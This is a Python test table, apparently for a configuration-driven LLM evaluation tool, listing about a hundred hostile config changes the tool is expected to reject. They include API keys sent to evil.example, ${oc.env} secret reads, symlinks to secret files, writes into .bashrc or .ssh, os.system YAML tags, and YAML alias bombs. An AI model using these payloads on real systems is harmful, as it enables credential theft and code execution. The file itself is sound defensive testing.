# ruff: noqa: E501 - a table is read line by line
"""A hundred studies from somebody who means harm: each is the plain study below with one thing changed.

A kind names the way out that was tried. `message` is a part of what `check` says; an empty one means that the study is
taken, and that the way out leads nowhere.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

SECRET = "planted-3b9ac1f07d"
"""In the environment and in files outside the study; no output may hold it."""
ENVIRONMENT = {
    name: f"{SECRET}-{name.lower()}"
    for name in (
        "OPENAI_API_KEY",
        "ANTHROPIC_API_KEY",
        "GEMINI_API_KEY",
        "DB_URL",
        "AWS_ACCESS_KEY_ID",
        "GITHUB_PAT",
        "PGPASS",
        "STRIPE",
    )
}
FLOW: dict[str, Any] = {
    "description": "Reads posts.",
    "records": "posts",
    "parameters": {"tone": {"default": "plain"}},
    "steps": {"read": {"agent": "judge", "parameters": {"model": "mine", "criteria": "rule", "template": "ask"}}},
    "result": "read",
}
MODEL = {"kind": "scripted", "path": "script.jsonl"}
POSTS = {"posts": {"type": "file", "path": "posts.jsonl"}}
FILES = {
    "flows/tiny.yaml": json.dumps(FLOW, indent=1),
    "models/mine.yaml": json.dumps({"mine": MODEL}),
    "storage/posts.yaml": json.dumps(POSTS),
    "posts.jsonl": '{"id": "1", "text": "A post."}\n',
    "script.jsonl": '{"reply": {}}\n',
    "prompts/ask.md": "user:\n{{ record.text }} {{ criterion.text }}\n",
    "criteria/rule.md": "Do no harm.\n",
}
BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 9)}]\n" for n in range(9)
)


@dataclass(frozen=True)
class Place:
    """Where one hostile study is, and what is beside it: `outside` is a folder of the user's with secrets in it."""

    study: Path
    outside: Path

    def write(self, name: str, content: str | bytes | Mapping[str, Any]) -> None:
        """Writes a file of the study; a mapping becomes YAML."""
        path = self.study / name
        path.parent.mkdir(parents=True, exist_ok=True)
        text = content if isinstance(content, str | bytes) else json.dumps(content, indent=1)
        path.write_bytes(text.encode() if isinstance(text, str) else text)

    def link(self, name: str, to: str | Path) -> None:
        """Puts a link in the place of a file or folder of the study."""
        path = self.study / name
        if path.is_dir():
            path.rename(self.outside / f"was-{path.name}")
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(to if isinstance(to, Path) else self.outside / to)


Change = Callable[[Place], object]


@dataclass(frozen=True)
class Hostile:
    """The kind, what is tried, how the study is changed, and a part of the message."""

    kind: str
    tried: str
    change: Change
    message: str


def file(name: str, content: str | bytes | Mapping[str, Any]) -> Change:
    return lambda place: place.write(name, content)


def model(**fields: Any) -> Change:
    hosted = {"kind": "hosted", "provider": "openai-compatible", "model_id": "m", **fields}
    return file("models/mine.yaml", {"mine": hosted})


def storage(**fields: Any) -> Change:
    return file("storage/posts.yaml", {"posts": fields})


def step(**fields: Any) -> Change:
    parameters = {**FLOW["steps"]["read"]["parameters"], **fields}
    return file("flows/tiny.yaml", {**FLOW, "steps": {"read": {"agent": "judge", "parameters": parameters}}})


def flow(**fields: Any) -> Change:
    return file("flows/tiny.yaml", {**FLOW, **fields})


def run(**fields: Any) -> Change:
    return file("local.yaml", {"run": fields})


def link(name: str, to: str | Path) -> Change:
    return lambda place: place.link(name, to)


def circle(name: str) -> Change:
    return lambda place: place.link(name, place.study / name)


def pipe(name: str) -> Change:
    def change(place: Place) -> None:
        (place.study / name).unlink(missing_ok=True)
        os.mkfifo(place.study / name)

    return change


def sparse(name: str, size: int = 50_000_000) -> Change:
    def change(place: Place) -> None:
        with (place.study / name).open("ab") as opened:
            opened.truncate(size)

    return change


def both(*changes: Change) -> Change:
    def change(place: Place) -> None:
        for one in changes:
            one(place)

    return change


def outside(make: Callable[[str], Change]) -> Change:
    """A change that names the folder outside."""
    return lambda place: make(str(place.outside))(place)


SENDS, ENV, LINK, DEVICE, RESOLVER = (
    "would send",
    "would read the environment",
    "leads out",
    "a device or a pipe",
    "which no configuration may",
)
OUT, CHOOSE = "is outside the study's folder", "which a study may not choose by itself"
LONG = "x" * 5000
EVIL = "https://evil.example/v1"

HOSTILE = [
    # Keys.
    Hostile("key", "OPENAI_API_KEY to a foreign host", model(provider="openai", base_url=EVIL), SENDS),
    Hostile("key", "ANTHROPIC_API_KEY to a foreign host", model(provider="anthropic", base_url=EVIL), SENDS),
    Hostile("key", "GEMINI_API_KEY to a foreign host", model(provider="google", base_url=EVIL), SENDS),
    Hostile("key", "login of Google Cloud to a foreign host", model(provider="google-vertex", base_url=EVIL), SENDS),
    Hostile("key", "AZURE key to a foreign host", model(provider="azure", base_url=EVIL), SENDS),
    *(Hostile("key", f"api_key_env: {name}", model(base_url=EVIL, api_key_env=name), SENDS) for name in ("DB_URL", "AWS_ACCESS_KEY_ID", "GITHUB_PAT", "PGPASS", "STRIPE")),
    Hostile("key", "a database's password to OpenAI", model(provider="openai", api_key_env="DB_URL"), SENDS),
    Hostile("key", "another provider's key", model(provider="openai", api_key_env="ANTHROPIC_API_KEY"), SENDS),
    Hostile("key", "a secret of Google's", model(base_url=EVIL, api_key_secret="projects/p/secrets/s"), SENDS),
    Hostile("key", "to this machine", model(provider="openai", base_url="http://127.0.0.1:8/v1"), SENDS),
    Hostile("key", "without encryption", model(provider="openai", base_url="http://api.openai.com/v1"), SENDS),
    Hostile("key", "host with a prefix", model(provider="openai", base_url="https://xapi.openai.com/v1"), SENDS),
    Hostile("key", "host with a suffix", model(provider="openai", base_url="https://api.openai.com.evil.example/v1"), SENDS),
    Hostile("key", "backslash before @", model(provider="openai", base_url="https://evil.example\\@api.openai.com/"), SENDS),
    Hostile("key", "in models.json", both(lambda p: (p.study / "models/mine.yaml").unlink(), file("models.json", {"mine": {"kind": "hosted", "provider": "openai", "model_id": "m", "base_url": EVIL}})), SENDS),
    Hostile("key", "a shipped model bent to a foreign host", both(file("models/x.yaml", {"gpt": {"base_url": EVIL}}), step(model="gpt")), SENDS),
    Hostile("key", "the same by local.yaml", both(file("local.yaml", {"models": {"gpt": {"base_url": EVIL}}}), step(model="gpt")), SENDS),
    Hostile("key", "the same by @package", both(file("models/x.yaml", f"# @package _global_\nmodels: {{gpt: {{base_url: '{EVIL}'}}}}\n"), step(model="gpt")), SENDS),
    Hostile("key", "host by interpolation", both(file("models/mine.yaml", {"mine": {"kind": "hosted", "provider": "openai", "model_id": "m", "base_url": "${evil}"}}), file("local.yaml", {"evil": EVIL})), SENDS),
    # A key in the place of a name.
    *(Hostile("key for a name", key[:4] + "…", model(base_url=EVIL, api_key_env=key), "should be the name of an environment variable") for key in ("sk-planted-3b9ac1f07d", "AIzaplanted-3b9ac1f07d", "planted-3b9ac1f07d")),
    Hostile("key for a name", "api_key_secret", model(base_url=EVIL, api_key_secret="sk-planted-3b9ac1f07d"), "and not the key itself"),
    # Addresses.
    Hostile("address", "user:password@", model(base_url=f"https://u:{SECRET}@evil.example"), "user name or password"),
    Hostile("address", "?api_key=", model(base_url=f"https://evil.example?api_key={SECRET}"), "holds a key"),
    Hostile("address", "file://", model(base_url="file:///etc/passwd"), "begins with http:// or https://"),
    Hostile("address", "headers of its own", model(base_url=EVIL, headers={"X": "${oc.env:DB_URL}"}), "has no field 'headers'"),
    Hostile("address", "a proxy of its own", model(base_url=EVIL, proxy="http://evil.example"), "has no field 'proxy'"),
    Hostile("address", "secrets from another server", file("local.yaml", {"secrets": {"models": "projects/p/secrets/s", "endpoint": "https://evil.example"}}), "an address of Google's"),
    # The environment.
    Hostile("environment", "in a parameter", step(model="mine", template="user:\n${oc.env:DB_URL} {{ record.text }}{{ criterion.text }}"), ENV),
    Hostile("environment", "with a default", step(template="user:\n${oc.env:DB_URL,x}{{ record.text }}{{ criterion.text }}"), ENV),
    Hostile("environment", "resolver named by interpolation", both(step(template="user:\n${oc.${e}:DB_URL}"), file("local.yaml", {"e": "env"})), RESOLVER),
    Hostile("environment", "whole resolver by interpolation", both(step(template="user:\n${${e}:DB_URL}"), file("local.yaml", {"e": "oc.env"})), RESOLVER),
    Hostile("environment", "variable by interpolation", both(step(template="user:\n${oc.env:${e}}"), file("local.yaml", {"e": "DB_URL"})), ENV),
    Hostile("environment", "in quotation marks within oc.select", step(template='user:\n${oc.select:x,"${oc.env:DB_URL}"}'), ENV),
    Hostile("environment", "oc.decode", step(template="user:\n${oc.decode:'${oc.env:DB_URL}'}"), "DB_URL"),
    Hostile("environment", "in a description", flow(description="${oc.env:DB_URL}"), ENV),
    Hostile("environment", "in a default of a parameter", flow(parameters={"tone": {"default": "${oc.env:DB_URL}"}}), ENV),
    Hostile("environment", "in a base_url", model(base_url="https://evil.example/${oc.env:DB_URL}"), ENV),
    Hostile("environment", "in a model's name", model(base_url=EVIL, model_id="${oc.env:DB_URL}"), ENV),
    Hostile("environment", "in a path of records", storage(type="file", path="${oc.env:DB_URL}"), ENV),
    Hostile("environment", "in a defaults list", flow(defaults=["/llms@x: ${oc.env:DB_URL}"]), ENV),
    Hostile("environment", "in local.yaml, read elsewhere", both(file("local.yaml", {"x": "${oc.env:DB_URL}"}), step(template="user:\n${x}{{ record.text }}{{ criterion.text }}")), ENV),
    Hostile("environment", "hydra:", step(template="user:\n${hydra:runtime.cwd}"), RESOLVER),
    Hostile("environment", "the key of another model, copied", both(file("models/x.yaml", {"held": {"kind": "hosted", "provider": "openai", "model_id": "m", "api_key": SECRET}}), step(template="user:\n${models.held.api_key}")), "would copy a key"),
    Hostile("environment", "the same in brackets", both(file("models/x.yaml", {"held": {"kind": "hosted", "provider": "openai", "model_id": "m", "api_key": SECRET}}), step(template="user:\n${models[held][api_key]}")), "would copy a key"),
    # Links and devices.
    Hostile("link", "records", link("posts.jsonl", "secret.jsonl"), LINK),
    Hostile("link", "folder of records", both(link("texts", "."), storage(type="file", path="texts")), LINK),
    Hostile("link", "one document of a folder", both(file("texts/a.txt", "x"), link("texts/b.txt", "secret.txt"), storage(type="file", path="texts")), LINK),
    Hostile("link", "a criterion", link("criteria/rule.md", "secret.txt"), LINK),
    Hostile("link", "criteria/", link("criteria", "criteria"), LINK),
    Hostile("link", "a prompt", link("prompts/ask.md", "secret.txt"), LINK),
    Hostile("link", "prompts/", link("prompts", "prompts"), LINK),
    Hostile("link", "an included prompt", both(link("prompts/more.md", "secret.txt"), file("prompts/ask.md", "user:\n{% include 'more.md' %}")), LINK),
    Hostile("link", "a models file", link("models/mine.yaml", "models.yaml"), LINK),
    Hostile("link", "models/", link("models", "models"), LINK),
    Hostile("link", "models.json", link("models.json", "models.yaml"), LINK),
    Hostile("link", "a flow", link("flows/tiny.yaml", "models.yaml"), LINK),
    Hostile("link", "local.yaml", link("local.yaml", "models.yaml"), LINK),
    Hostile("link", "records in a circle", circle("posts.jsonl"), "posts.jsonl"),
    Hostile("link", "a document in a circle", both(file("texts/a.txt", "x"), circle("texts/b.txt"), storage(type="file", path="texts")), "b.txt"),
    Hostile("link", "a criterion in a circle", circle("criteria/rule.md"), "rule"),
    Hostile("link", "a prompt in a circle", circle("prompts/ask.md"), "ask"),
    Hostile("link", "a models file in a circle", circle("models/mine.yaml"), "mine"),
    Hostile("link", "models.json in a circle", circle("models.json"), "models.json"),
    Hostile("link", "a flow in a circle", circle("flows/tiny.yaml"), "tiny"),
    Hostile("link", "local.yaml in a circle", circle("local.yaml"), "local.yaml"),
    Hostile("link", "to a link", both(link("hop", "secret.txt"), lambda p: p.link("prompts/ask.md", p.study / "hop")), LINK),
    Hostile("device", "records are a pipe", pipe("posts.jsonl"), DEVICE),
    Hostile("device", "a criterion is a pipe", pipe("criteria/rule.md"), DEVICE),
    Hostile("device", "a prompt is a pipe", pipe("prompts/ask.md"), DEVICE),
    Hostile("device", "a models file is a pipe", pipe("models/mine.yaml"), DEVICE),
    Hostile("device", "models.json is a pipe", pipe("models.json"), DEVICE),
    Hostile("device", "local.yaml is a pipe", pipe("local.yaml"), DEVICE),
    Hostile("device", "a models file is /dev/zero", link("models/mine.yaml", Path("/dev/zero")), LINK),
    Hostile("device", "records are /dev/zero", link("posts.jsonl", Path("/dev/zero")), LINK),
    # Places.
    Hostile("place", "records by an absolute path", outside(lambda f: storage(type="file", path=f"{f}/secret.jsonl")), OUT),
    Hostile("place", "records by ..", storage(type="file", path="../../outside/secret.jsonl"), OUT),
    Hostile("place", "records by ~", storage(type="file", path="~/.docker/config.json"), OUT),
    Hostile("place", "gold set by ..", flow(measures={"verdicts": "read", "truth": "../../outside/secret.jsonl"}), OUT),
    Hostile("place", "gold set by an absolute path", outside(lambda f: flow(measures={"verdicts": "read", "truth": f"{f}/secret.jsonl"})), OUT),
    Hostile("link", "gold set", both(link("gold.jsonl", "secret.jsonl"), flow(measures={"verdicts": "read", "truth": "gold.jsonl"})), OUT[:3]),
    Hostile("place", "script of a model", file("models/mine.yaml", {"mine": {"kind": "scripted", "path": "../../outside/secret.jsonl"}}), OUT),
    Hostile("place", "audit trail into .bashrc", run(audit="~/.bashrc"), "`audit` names"),
    Hostile("place", "audit trail into a file here", run(audit=".profile"), "is hidden"),
    Hostile("place", "runs into a folder of the user's", outside(lambda f: run(folder=f"{f}/autostart")), OUT),
    Hostile("place", "runs into a hidden folder", run(folder=".ssh"), "is hidden"),
    Hostile("place", "kept results into a folder of the user's", outside(lambda f: run(results=f)), OUT),
    Hostile("place", "kept results into somebody's bucket", run(results="gs://somebody-else/x"), CHOOSE),
    Hostile("place", "records from a bucket", storage(type="gcs", bucket="somebody-else", path="x.jsonl"), CHOOSE),
    Hostile("place", "records from a table", storage(type="bigquery", project="somebody-else", dataset="d", table="t"), CHOOSE),
    Hostile("place", "rows saved to somebody's bucket", both(flow(save=["out"]), file("storage/out.yaml", {"out": {"type": "gcs", "bucket": "somebody-else", "path": "x"}})), CHOOSE),
    Hostile("place", "rows saved to a foreign server", both(flow(save=["out"]), file("storage/out.yaml", {"out": {"type": "gcs", "bucket": "any-bucket", "path": "x", "endpoint": "https://evil.example"}})), CHOOSE),
    Hostile("place", "index kept in somebody's bucket", both(flow(corpus="c"), file("storage/c.yaml", {"c": {"type": "corpus", "label": "C", "source": {"path": "posts.jsonl"}, "kept_in": "gs://somebody-else/x"}})), CHOOSE),
    Hostile("place", "corpus outside", both(flow(corpus="c"), file("storage/c.yaml", {"c": {"type": "corpus", "label": "C", "source": {"path": "../../outside/secret.jsonl"}}})), OUT),
    # Defaults lists.
    Hostile("defaults", "../..", flow(defaults=["/../../outside/models@x"]), "not in a config folder"),
    Hostile("defaults", "a folder of texts", both(file("prompts/x.yaml", BOMB), flow(defaults=["/prompts/x@y"])), "holds no configuration"),
    Hostile("defaults", "a search path of its own", both(file("config.yaml", {"defaults": ["_self_", {"llms": "embedded"}, {"run": "default"}], "hydra": {"searchpath": ["file:///etc"]}}), flow(defaults=["/passwd@x"])), "passwd"),
    Hostile("defaults", "itself", flow(defaults=["/flows/tiny@x"]), "brings in itself"),
    # Programs.
    Hostile("program", "_target_ in a step", flow(steps={"read": {"agent": "judge", "_target_": "os.system"}}), "no field '_target_'"),
    Hostile("program", "agent by import path", flow(steps={"read": {"agent": "os.system"}}), "there is no agent"),
    Hostile("program", "agent of a file of the study", both(file("evil.py", "open('pwned', 'w')"), flow(steps={"read": {"agent": "evil:Evil"}})), "there is no agent"),
    Hostile("program", "Python beside the flows", both(file("flows/__init__.py", "open('pwned', 'w')"), file("sitecustomize.py", "open('pwned', 'w')"), file("agents/__init__.py", "open('pwned', 'w')")), ""),
    Hostile("program", "callback of Hydra", file("local.yaml", {"hydra": {"callbacks": {"x": {"_target_": "subprocess.getoutput", "cmd": "touch pwned"}}}}), ""),
    Hostile("program", "!!python/object", file("models/x.yaml", 'x: !!python/object/apply:os.system ["touch pwned"]\n'), "!!python"),
    Hostile("program", "the same in front matter", file("criteria/rule.md", '---\nx: !!python/object/apply:os.system ["touch pwned"]\n---\nDo no harm.'), "!!python"),
    Hostile("program", "condition", flow(steps={**FLOW["steps"], "more": {**FLOW["steps"]["read"], "when": "''.__class__.__mro__"}}), "names that begin with two underscores"),
    Hostile("program", "include by path", file("prompts/ask.md", "user:\n{% include '../../../outside/secret.txt' %}"), "not in prompts/"),
    # A little that becomes a lot.
    Hostile("bomb", "aliases in a models file", file("models/x.yaml", BOMB), "its aliases make more than"),
    Hostile("bomb", "aliases in front matter", file("criteria/rule.md", f"---\n{BOMB}---\nText."), "its aliases make more than"),
    Hostile("bomb", "brackets in models.json", file("models.json", f'{{"a":{"[" * 100_000}{"]" * 100_000}}}'), "nested too deep"),
    Hostile("bomb", "50 MB of YAML", sparse("models/mine.yaml"), "larger than 10 MB"),
    Hostile("bomb", "50 MB of a prompt", sparse("prompts/ask.md"), "larger than 10 MB"),
    Hostile("bomb", "50 MB of a criterion", sparse("criteria/rule.md"), "larger than 10 MB"),
    Hostile("bomb", "50 MB of models.json", both(file("models.json", "{}"), sparse("models.json")), "larger than 10 MB"),
    Hostile("bomb", "more values than may be", file("models/x.yaml", "[" + "a, " * 100_001 + "a]"), "it holds more than"),
    Hostile("bomb", "brackets of a reference", flow(steps={**FLOW["steps"], "more": {"agent": "llm", "inputs": {"material": "read[" + "[" * 3000}, "parameters": {"model": "mine", "template": "ask"}}}), "nested too deep"),
    Hostile("bomb", "a number of 5,000 digits", file("models/x.yaml", f"x: {{kind: scripted, path: script.jsonl, seed: {':'.join(['59'] * 3000)}}}"), "has no field 'seed'"),
    Hostile("place", "NUL in a path", storage(type="file", path="posts\0.jsonl"), "holds the character NUL"),
    Hostile("place", "NUL in a path of JSON", file("models.json", {"mine": {"kind": "scripted", "path": "a\0b"}}), "mine"),
    # Names that no file can have.
    Hostile("name", "a criterion", step(criteria=LONG), "no criterion 'xxx"),
    Hostile("name", "a prompt", step(template=LONG), "there is no template 'xxx"),
    Hostile("name", "an included prompt", file("prompts/ask.md", f"user:\n{{% include '{LONG}' %}}"), "prompts/ask.md"),
    Hostile("name", "records", storage(type="file", path=LONG), "does not exist"),
    Hostile("name", "a picture", both(storage(type="file", path="posts.jsonl"), file("posts.jsonl", json.dumps({"text": "a", "images": [LONG]}))), "the picture 'xxx"),
    Hostile("name", "ground truth nested 900 deep", file("posts.jsonl", f'{{"text": "a", "ground_truth": {"[" * 900}{"]" * 900}}}\n'), "nested more than 100 deep"),
    Hostile("name", "half a character", file("posts.jsonl", '{"text": "a \\ud83d"}\n'), "half of a character"),
    # The terminal.
    Hostile("terminal", "escape in a file's name", file("models/\x1b[31m.yaml", "x: ["), "models/\ufffd[31m.yaml:1"),
    Hostile("terminal", "line's end in a file's name", file("models/x\n0 mistakes.yaml", "x: ["), "models/x\ufffd0 mistakes.yaml:1"),
    Hostile("terminal", "turned direction in a file's name", file("models/\u202etxt.yaml", "x: ["), "models/\ufffdtxt.yaml:1"),
    Hostile("terminal", "turned direction in a value", step(model="\u202enil"), "there is no model '\ufffdnil'"),
    Hostile("terminal", "line's end in a field", flow(**{"x\n0 mistakes; nothing": 1}), "has no field 'x␊0 mistakes; nothing'"),
    Hostile("terminal", "escape in a value", step(model="\x1b]0;owned\x07"), "there is no model '␛]0;owned␇'"),
]  # fmt: skip
